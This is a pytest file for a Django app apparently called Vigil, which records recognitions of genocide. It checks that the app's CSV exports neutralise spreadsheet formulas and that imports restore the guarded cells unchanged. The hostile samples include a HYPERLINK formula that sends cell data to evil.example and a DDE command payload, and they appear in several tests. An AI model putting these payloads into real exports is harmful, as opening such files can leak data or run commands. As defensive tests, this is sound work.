"""No CSV Vigil writes can run as a spreadsheet formula, and the importers read the guarded cells
back exactly."""

import csv
import io

import pytest
from django.core.management import call_command
from django.urls import reverse

from tests.conftest import body
from vigil.audit.log import acting_as
from vigil.cases.models import Case
from vigil.csv_safe import guard, unguard
from vigil.recognition import services
from vigil.recognition.importer import import_recognitions
from vigil.recognition.models import Actor, RecognitionAct

HOSTILE = [
    '=HYPERLINK("https://evil.example/?q="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1",
    "\r=1",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_a_cell_a_spreadsheet_would_run_is_written_as_text(value):
    written = guard(value)
    assert written == "'" + value
    assert unguard(written) == value


@pytest.mark.parametrize(
    "value", ["'s-Hertogenbosch", "'=already quoted", "''@twice", "plain", "", "1992-02-26"]
)
def test_guarding_is_reversible_for_any_text(value):
    assert unguard(guard(value)) == value


def test_other_text_and_numbers_pass_unchanged():
    assert guard("The town of Khojaly") == "The town of Khojaly"
    assert guard("'s-Hertogenbosch") == "'s-Hertogenbosch"
    assert guard(-5) == -5 and guard(None) is None


def _hostile_act(case, wording):
    return services.record_act(
        case,
        fields={
            "actor": Actor.objects.get(kind="state", country_code="PAK"),
            "date": None,
            "instrument": "resolution",
            "characterisation": "genocide",
            "wording": wording,
            "status": "adopted",
            "review": "verified",
        },
    )


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


@pytest.mark.django_db
def test_the_recognition_export_guards_formulas_and_imports_back_unchanged(case, states, capsys):
    wording = "=cmd|' /C calc'!A0"
    _hostile_act(case, wording)
    call_command("recognitions", case.slug, "--format", "csv")
    exported = capsys.readouterr().out
    assert "'" + wording in _cells(exported)
    assert wording not in _cells(exported)
    other = Case.objects.create(slug="copy", title="Copy")
    report = import_recognitions(other, io.StringIO(exported))
    assert report.ok, [row.errors for row in report.rows]
    assert RecognitionAct.objects.get(case=other).wording == wording


@pytest.mark.django_db
def test_the_web_export_of_acts_guards_formulas(alice_client, case, states):
    _hostile_act(case, "@SUM(A1:A9)")
    response = alice_client.get(reverse("recognition:export_csv", args=[case.slug]))
    assert "'@SUM(A1:A9)" in _cells(body(response))


@pytest.mark.django_db
def test_the_public_open_data_guards_formulas(client, published):
    from vigil.dossier import publishing

    publishing.publish_act(_hostile_act(published, '=HYPERLINK("https://evil.example","x")'))
    url = reverse(
        "public_data", kwargs={"slug": published.slug, "dataset": "recognitions", "fmt": "csv"}
    )
    cells = _cells(body(client.get(url)))
    assert '\'=HYPERLINK("https://evil.example","x")' in cells
    assert not any(cell.startswith(("=", "+", "@")) for cell in cells)


@pytest.mark.django_db
def test_the_audit_log_export_guards_formulas(administrator_client, django_user_model, case):
    # Django allows user names such as "+1+1" or "@x-1": the export must not let them run.
    someone = django_user_model.objects.create_user("@x-1+2")
    with acting_as(someone):
        case.title = "Renamed"
        case.save()
    export = administrator_client.get(
        reverse("accounts:audit_log"), {"user": "@x-1+2", "format": "csv"}
    )
    table = list(csv.DictReader(io.StringIO(body(export))))
    assert [row["actor"] for row in table] == ["'@x-1+2"]
